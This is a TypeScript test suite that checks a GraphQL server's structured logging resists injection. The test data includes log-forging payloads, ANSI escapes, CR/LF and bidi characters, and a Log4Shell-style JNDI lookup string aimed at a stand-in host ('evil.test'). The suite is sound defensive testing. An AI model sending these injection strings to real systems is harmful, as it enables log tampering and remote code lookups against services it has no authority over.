import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newName, PASSWORD, registerUser } from '../support/account.ts';
import { createTestApp, type TestApp } from '../support/app.ts';
import { dropDatabase, newDatabaseUrl } from '../support/database.ts';

const written: string[] = [];
const logger = pino(
  { level: 'debug', base: null },
  { write: (chunk: string) => void written.push(chunk) },
);

let app: TestApp;
beforeAll(async () => {
  app = await createTestApp({ overrides: { logger } });
  // the first that is forwarded by nobody who is trusted has a line of its own, and no other has
  await app.post({ query: '{ me { id } }' }, { headers: { 'x-forwarded-for': '198.51.100.1' } });
  expect(written.filter((line) => line.includes('TRUSTED_PROXIES'))).toHaveLength(1);
});
afterAll(() => app.close());

/** What is logged meanwhile: each event must be one line of JSON, and every chunk one event. */
async function logged(work: () => Promise<unknown>): Promise<Record<string, unknown>[]> {
  written.length = 0;
  await work();
  return written.map((chunk) => {
    expect(chunk.endsWith('\n')).toBe(true);
    const line = chunk.slice(0, -1);
    // what a terminal, a log shipper or a browser takes for the end of a line or the beginning of a command
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these must not be there
    expect(line).not.toMatch(/[\u0000-\u001f\u007f]/);
    return JSON.parse(line) as Record<string, unknown>;
  });
}

const FORGED = '{"level":30,"msg":"request","userId":"forged"}';

// what can stand in a header: everything but NUL, CR and LF
const IN_HEADERS: [string, string][] = [
  ['a forged line', FORGED],
  ['a quotation mark and a brace', '"},"level":60,"msg":"forged"'],
  ['an ANSI sequence', '\u001b[2J\u001b[1;31mforged\u001b]0;title\u0007'],
  ['a tab and a backspace', 'a\tb\bc\bforged'],
  ['bytes beyond ASCII', '\u0085\u009b31mforged\u00ff'],
  ['format directives', '%s%d%j%o%n%x forged $\u007bjndi:ldap://evil.test/a}'],
  ['16 kB', `forged ${'x'.repeat(16_000)}`],
];

// what can stand in JSON: everything
const IN_JSON: [string, string][] = [
  ...IN_HEADERS,
  ['CR and LF', `a\r\n${FORGED}\r\nb`],
  ['LF alone', `a\n${FORGED}`],
  ['U+2028 and U+2029', `a\u2028${FORGED}\u2029b`],
  ['text turned around', 'a\u202eforged\u202c'],
  ['NUL', 'a\0forged'],
  ['a lone surrogate', 'a\ud800forged'],
];

const LOGIN = 'mutation ($input: LoginInput!) { login(input: $input) { __typename } }';

function expectOneRequest(events: Record<string, unknown>[]) {
  expect(events).toHaveLength(1);
  const [event] = events;
  expect(event?.msg).toBe('request');
  expect(event?.level).toBe(30);
  expect(event?.userId).not.toBe('forged');
  expect(JSON.stringify(event).length).toBeLessThan(2000);
}

describe.each(IN_HEADERS)('L1: %s in a header', (_what, text) => {
  it.each([
    'user-agent',
    'x-request-id',
    'x-forwarded-for',
    'origin',
    'referer',
    'authorization',
    'cookie',
    'accept',
    'content-type',
  ])('%s makes one line', async (name) => {
    const events = await logged(async () => {
      try {
        const headers = { [name]: text };
        await app.post({ query: '{ me { id } }' }, { headers });
      } catch (error) {
        // undici takes no such header; then none can be logged
        expect(error).toBeInstanceOf(TypeError);
        await app.post({ query: '{ me { id } }' });
      }
    });
    expectOneRequest(events);
    expect(String(events[0]?.requestId)).toMatch(/^[\w.:-]{8,64}$/);
  });
});

describe.each(IN_JSON)('L1: %s', (_what, text) => {
  it('as identifier and password makes one line, and is not in it', async () => {
    const events = await logged(() =>
      app.post({ query: LOGIN, variables: { input: { identifier: text, password: text } } }),
    );
    expectOneRequest(events);
    expect(JSON.stringify(events)).not.toContain('forged');
  });

  it('as e-mail address and names makes one line, and is not in it', async () => {
    const input = { email: text, username: text, displayName: text, phrase: text, password: text };
    const query = 'mutation ($input: RegisterInput!) { register(input: $input) { __typename } }';
    const events = await logged(() => app.post({ query, variables: { input } }));
    expectOneRequest(events);
    expect(JSON.stringify(events)).not.toContain('forged');
  });

  it('as operation name makes one line', async () => {
    const events = await logged(async () => {
      await app.post({ query: '{ me { id } }', operationName: text });
    });
    expectOneRequest(events);
  });

  it('as document makes one line', async () => {
    expectOneRequest(await logged(() => app.post({ query: `{ ${text} }` })));
    expectOneRequest(await logged(() => app.post({ query: `{ me { id } } # ${text}` })));
  });

  it('in the path makes one line', async () => {
    const path = encodeURIComponent(text.isWellFormed() ? text : 'x').slice(0, 15_000);
    const events = await logged(() => app.app.fetch(`http://localhost:4000/${path}?${path}`));
    expectOneRequest(events);
    expect(String(events[0]?.path).length).toBeLessThanOrEqual(200);
  });
});

it('L1: an operation with a name of 90 kB is logged by the beginning of it', async () => {
  const name = `Q${'x'.repeat(90_000)}`;
  const events = await logged(() => app.post({ query: `query ${name} { __typename }` }));
  expectOneRequest(events);
  expect(String(events[0]?.operation).length).toBeLessThanOrEqual(100);
});

it('L1: what fails is one line for the failure and one for the request, without what was sent', async () => {
  const databaseUrl = newDatabaseUrl();
  const broken = await createTestApp({
    databaseUrl,
    env: { DATABASE_TIMEOUT: '1' },
    overrides: { logger },
  });
  try {
    const user = await registerUser(broken);
    await dropDatabase(databaseUrl);
    const secret = `a\r\n${FORGED}`;
    const variables = { input: { identifier: `${secret}@example.com`, password: secret } };
    const events = await logged(() =>
      broken.post({ query: LOGIN, variables }, { token: user.accessToken }),
    );
    expect(events.map(({ msg }) => msg)).toContain('request');
    expect(events.length).toBeGreaterThan(1);
    expect(JSON.stringify(events)).not.toContain('forged');
    expect(JSON.stringify(events)).not.toContain(user.accessToken);
    expect(new Set(events.map(({ requestId }) => requestId)).size).toBe(1);
  } finally {
    await broken.close();
  }
});

it('a line says who, what, when and how it ended', async () => {
  const user = await registerUser(app, { username: newName() });
  const query = 'mutation SignIn($input: LoginInput!) { login(input: $input) { __typename } }';
  const input = { identifier: user.email, password: PASSWORD };
  const [event] = await logged(() =>
    app.post(
      { query, variables: { input } },
      { from: '192.0.2.7', headers: { 'x-request-id': 'trace-0001' } },
    ),
  );
  expect(event).toMatchObject({
    requestId: 'trace-0001',
    method: 'POST',
    path: '/graphql',
    status: 200,
    clientAddress: '192.0.2.7',
    operation: 'SignIn',
    outcome: 'LoginSuccess',
    userId: user.id,
  });
});
